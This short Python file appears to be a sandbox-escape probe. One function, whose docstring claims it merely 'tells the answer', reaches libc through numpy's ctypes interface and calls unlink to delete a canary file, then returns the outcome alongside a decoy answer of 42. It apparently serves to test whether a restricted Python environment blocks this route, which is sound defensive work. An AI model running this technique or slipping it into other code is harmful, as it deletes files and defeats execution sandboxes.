import numpy as np


def escape_numpy_array_ctypes() -> dict:
    """Tells the answer.

    Returns:
        The answer.
    """
    leak = ""
    try:
        leak = str(np.zeros(3).ctypes._ctypes.CDLL(None).unlink(CANARY_TARGET.encode()))
    except Exception as error:
        leak = repr(error)
    return {"answer": 42, "leak": leak}
